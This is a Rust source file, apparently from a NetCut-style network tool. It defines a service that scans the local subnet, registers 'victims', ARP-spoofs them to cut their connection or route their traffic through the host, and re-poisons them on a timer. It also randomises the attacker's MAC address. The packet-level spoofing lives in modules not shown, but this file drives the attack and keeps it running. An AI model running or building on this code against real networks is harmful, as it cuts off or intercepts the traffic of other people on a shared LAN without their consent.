use std::{net::Ipv4Addr, sync::Arc, time::Duration};

use parking_lot::Mutex;
use pnet::util::MacAddr;
use tokio::{sync::watch, task::JoinHandle, time::MissedTickBehavior};
use tracing::{error, info, warn};

use crate::{
    error::CutError,
    model::{GatewayInfo, HostInfo, VictimDescriptor},
    net::{
        host::{generate_mac, HostControl},
        inspect::{Hostnames, NetworkInspector},
        spoof::{FrameSender, SpoofEngine},
    },
};

#[derive(Debug, Default)]
struct State {
    victims: Vec<VictimDescriptor>,
    protected: bool,
}

/// Owns the cut registry and protection flag and drives the spoof engine.
///
/// The lock covers the registry, the protection flag and the forwarding
/// sysctl. It is never held while frames are on the wire.
pub struct CutService {
    state: Mutex<State>,
    engine: SpoofEngine,
    inspector: Arc<dyn NetworkInspector>,
    host: Arc<dyn HostControl>,
}

impl CutService {
    pub fn new(
        inspector: Arc<dyn NetworkInspector>,
        sender: Arc<dyn FrameSender>,
        host: Arc<dyn HostControl>,
    ) -> Self {
        return Self {
            state: Mutex::new(State::default()),
            engine: SpoofEngine::new(inspector.clone(), sender),
            inspector,
            host,
        };
    }

    pub fn gateway(&self) -> Result<GatewayInfo, CutError> {
        return self
            .inspector
            .resolve_gateway(Hostnames::Resolve)?
            .ok_or(CutError::NoGateway);
    }

    pub fn me(&self, iface: &str) -> Result<HostInfo, CutError> {
        return self
            .inspector
            .resolve_self(iface, Hostnames::Resolve)?
            .ok_or_else(|| CutError::NoInterfaceAddress(iface.to_string()));
    }

    pub fn scan(&self, ip: Ipv4Addr) -> Result<Vec<HostInfo>, CutError> {
        return Ok(self.inspector.scan_subnet(ip)?);
    }

    pub fn victims(&self) -> Vec<VictimDescriptor> {
        return self.state.lock().victims.clone();
    }

    pub fn is_protected(&self) -> bool {
        return self.state.lock().protected;
    }

    /// Registers `victim` and poisons it once. Transmission problems are
    /// logged only; the repeater keeps retrying a registered victim.
    pub fn cut(&self, victim: VictimDescriptor) -> Result<(), CutError> {
        {
            let mut state = self.state.lock();
            if state.victims.contains(&victim) {
                return Err(CutError::AlreadyCut);
            }
            state.victims.push(victim.clone());
            if let Err(e) = self.host.set_ip_forward(true) {
                error!("Couldn't enable IP forwarding: {e:#}");
            }
        }

        info!("Cutting {} ({})", victim.ip, victim.mac);
        if let Err(e) = self.engine.spoof(&victim) {
            warn!("First spoof of {} failed: {e}", victim.ip);
        }
        return Ok(());
    }

    pub fn resume(&self, victim: VictimDescriptor) -> Result<(), CutError> {
        {
            let mut state = self.state.lock();
            let Some(position) = state.victims.iter().position(|cut| *cut == victim) else {
                return Err(CutError::NotCut);
            };
            state.victims.remove(position);
            if state.victims.is_empty() {
                if let Err(e) = self.host.set_ip_forward(false) {
                    error!("Couldn't disable IP forwarding: {e:#}");
                }
            }
        }

        if let Err(e) = self.engine.unspoof(&victim) {
            warn!("Restoring {} failed: {e}", victim.ip);
        }
        return Ok(());
    }

    /// Enables forwarding and broadcasts the gateway's true mapping once.
    /// The protection flag is only raised once the beacon went out.
    pub fn protect(&self, gateway: &GatewayInfo) -> Result<(), CutError> {
        // Refuse before touching anything if the beacon would be meaningless.
        gateway.ipv4()?;
        gateway.hw_addr()?;
        self.host.set_ip_forward(true)?;

        if let Err(e) = self.engine.announce_gateway(gateway) {
            let state = self.state.lock();
            // Forwarding stays on while something else still relies on it.
            if !state.protected && state.victims.is_empty() {
                if let Err(e) = self.host.set_ip_forward(false) {
                    error!("Couldn't disable IP forwarding: {e:#}");
                }
            }
            return Err(e);
        }

        self.state.lock().protected = true;
        info!("Protection enabled");
        return Ok(());
    }

    pub fn unprotect(&self) -> Result<(), CutError> {
        let mut state = self.state.lock();
        self.host.set_ip_forward(false)?;
        state.protected = false;
        info!("Protection disabled");
        return Ok(());
    }

    pub fn change_mac(&self, iface: &str) -> Result<MacAddr, CutError> {
        let mac = generate_mac();
        self.host.set_mac(iface, mac)?;
        return Ok(mac);
    }

    /// One repeater round: a single spoof burst per victim registered when the
    /// round started. Returns how many victims were attempted.
    pub fn tick(&self) -> usize {
        let victims = self.victims();
        if victims.is_empty() {
            return 0;
        }

        let topology = match self.engine.topology() {
            Ok(topology) => topology,
            Err(e) => {
                warn!("Skipping repeat round: {e}");
                return 0;
            }
        };
        for victim in &victims {
            if let Err(e) = self.engine.spoof_with(&topology, victim) {
                warn!("Repeat spoof of {} failed: {e}", victim.ip);
            }
        }
        return victims.len();
    }

    /// Empties the registry and heals every victim that was still cut.
    pub fn restore_all(&self) {
        let victims = {
            let mut state = self.state.lock();
            let victims = std::mem::take(&mut state.victims);
            if !victims.is_empty() {
                if let Err(e) = self.host.set_ip_forward(false) {
                    error!("Couldn't disable IP forwarding: {e:#}");
                }
            }
            victims
        };
        if victims.is_empty() {
            return;
        }

        let gateway = match self.engine.resolve_gateway() {
            Ok(gateway) => gateway,
            Err(e) => {
                error!("Couldn't restore {} hosts: {e}", victims.len());
                return;
            }
        };
        for victim in &victims {
            if let Err(e) = self.engine.unspoof_with(&gateway, victim) {
                warn!("Restoring {} failed: {e}", victim.ip);
            }
        }
    }
}

/// Handle on the background task that keeps cut victims poisoned.
pub struct Repeater {
    shutdown: watch::Sender<bool>,
    handle: JoinHandle<()>,
}

impl Repeater {
    pub fn spawn(service: Arc<CutService>, period: Duration) -> Self {
        let (shutdown, mut stopped) = watch::channel(false);
        let handle = tokio::spawn(async move {
            let mut ticker = tokio::time::interval(period);
            ticker.set_missed_tick_behavior(MissedTickBehavior::Delay);
            loop {
                tokio::select! {
                    _ = stopped.changed() => break,
                    _ = ticker.tick() => {
                        let service = service.clone();
                        // ARP I/O blocks, keep it off the async workers.
                        if let Err(e) = tokio::task::spawn_blocking(move || service.tick()).await {
                            error!("Repeat round panicked: {e}");
                        }
                    }
                }
            }
            info!("Repeater stopped");
        });
        return Self { shutdown, handle };
    }

    /// Stops scheduling rounds. A round already on the wire completes first.
    pub async fn stop(self) {
        let _ = self.shutdown.send(true);
        if let Err(e) = self.handle.await {
            error!("Repeater task failed: {e}");
        }
    }
}
